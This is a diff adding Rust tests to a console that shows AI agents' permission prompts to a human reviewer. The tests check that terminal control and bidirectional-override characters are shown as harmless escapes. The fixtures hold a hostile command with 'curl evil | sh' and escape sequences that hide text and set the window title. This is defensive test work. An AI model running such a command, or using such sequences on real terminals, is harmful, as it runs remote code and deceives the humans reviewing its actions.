@@ -263,3 +263,108 @@ fn the_keys_wait_while_the_list_settles() {
         super::key_hints(&state, settled(start)).starts_with("o allow once · d deny · r release")
     );
 }
+
+/// Text that would act on a terminal: hidden text, a window title, a carriage return that lets
+/// the end overwrite the start, and a right-to-left override.
+const HOSTILE: &str = "echo ok\x1b[8m; curl evil | sh\x1b]0;pwned\x07\rls\u{202e}txt.sh";
+
+/// No character that a terminal acts on, nor a bidirectional override, reached the screen.
+fn assert_inert(drawn: &str) {
+    for forbidden in ['\x1b', '\x07', '\r', '\u{202e}', '\u{9b}', '\u{7f}'] {
+        assert!(
+            !drawn.contains(forbidden),
+            "{forbidden:?} reached the screen:\n{drawn}"
+        );
+    }
+}
+
+#[test]
+fn a_hostile_command_shows_its_control_and_bidi_characters_as_escapes() {
+    let start = Instant::now();
+    let mut hostile = bash(FIRST, HOSTILE);
+    hostile.prompt.cwd = "/home/dev/\x1b[8mproject".into();
+    hostile.prompt.input = serde_json::json!({
+        "command": HOSTILE,
+        "script": "first line\r\n\x1b[2Ksecond line\n",
+        "args": ["x\u{9b}y", "\u{7f}"],
+    });
+    let mut state = connected(vec![hostile], start);
+    press(&mut state, &[KeyCode::Char('o')], settled(start));
+    let drawn = screen(&state, 140, 19, settled(start));
+    assert_inert(&drawn);
+    assert!(
+        drawn.contains(r"command: echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh")
+    );
+    assert_snapshot!(drawn, @r#"
+        " gatehouse console  connected to gatehouse 0.1.0 · 1 pending prompt                                                                         "
+        "┌ Prompts (1 pending, newest last) ────────────────────────────────────────────────────────────────────────────────────────────────────────┐"
+        "│  AGENT    FOLDER                       TOOL             AGE  CAN        SUMMARY                                                          │"
+        "│> claude   /home/dev/\e[8mproject       Bash             12s  once,deny  echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh    │"
+        "└──────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────┘"
+        "┌ Detail (PgUp/PgDn scroll) ───────────────────────────────────────────────────────────────────────────────────────────────────────────────┐"
+        "│Claude Code (claude) · session 53b38252 · /home/dev/\e[8mproject                                                                          │"
+        "│Bash permission · waiting 12s · id 01a22a7c-7184-7520-bb65-4d44b4eba601                                                                   │"
+        "│                                                                                                                                          │"
+        "│command: echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh                                                                    │"
+        "│script:                                                                                                                                   │"
+        "│  first line\r                                                                                                                            │"
+        "│  \e[2Ksecond line                                                                                                                        │"
+        "│args: ["x\u{9b}y","\u{7f}"]                                                                                                               │"
+        "│                                                                                                                                          │"
+        "└──────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────┘"
+        "o allow once · d deny · r release to terminal · ↑↓ move · PgUp/PgDn scroll · q quit                                                         "
+        "Sending allow once for: echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.…                                                        "
+        "                                                                                                                                            "
+        "#);
+}
+
+#[test]
+fn a_hostile_question_shows_its_control_characters_as_escapes() {
+    let start = Instant::now();
+    let mut hostile = question(FIRST);
+    hostile.prompt.summary = "Which\x1b[8m toppings?".into();
+    hostile.prompt.questions[0].text = "Which\rtoppings?".into();
+    hostile.prompt.questions[0].header = "Top\u{202e}pings".into();
+    hostile.prompt.questions[0].options[0].label = "Cheese\x1b]0;pwned\x07".into();
+    hostile.prompt.questions[0].options[0].description = "melted\u{9b}".into();
+    let mut state = connected(vec![hostile], start);
+    press(&mut state, &[KeyCode::Char('a')], settled(start));
+    let drawn = screen(&state, 100, 20, settled(start));
+    assert_inert(&drawn);
+    assert!(drawn.contains(r"Which\e[8m toppings?"));
+    assert!(drawn.contains(r"q1 Top\u{202e}pings: Which\rtoppings? (choose any)"));
+    assert!(drawn.contains(r"Cheese\e]0;pwned\u{7}: melted\u{9b}"));
+}
+
+#[test]
+fn gateway_words_in_the_header_and_a_vanished_prompt_show_as_escapes() {
+    let start = Instant::now();
+    let mut state = connected(vec![bash(FIRST, "make")], start);
+    let withdrawn = Event::Changed {
+        id: id(FIRST),
+        state: PromptState::Withdrawn,
+        at: WALL_NOW,
+        by: Some("them\x1b[8m".into()),
+        action: None,
+        reason: Some("gone\r\u{202e}".into()),
+    };
+    state.apply_update(GatewayUpdate::Event(Box::new(withdrawn)), settled(start));
+    let drawn = screen(&state, 100, 12, settled(start));
+    assert_inert(&drawn);
+    assert!(
+        drawn.contains(r"GONE: withdrawn by them\e[8m, gone\r\u{202e}."),
+        "{drawn}"
+    );
+    let gone = GatewayUpdate::Disconnected {
+        reason: "refused\x1b]0;pwned\x07".into(),
+        retry_in: Duration::from_millis(2_000),
+        attempt: 1,
+    };
+    state.apply_update(gone, start);
+    let drawn = screen(&state, 100, 12, start);
+    assert_inert(&drawn);
+    assert!(
+        drawn.contains(r"THE GATEWAY IS GONE: refused\e]0;pwned\u{7}"),
+        "{drawn}"
+    );
+}
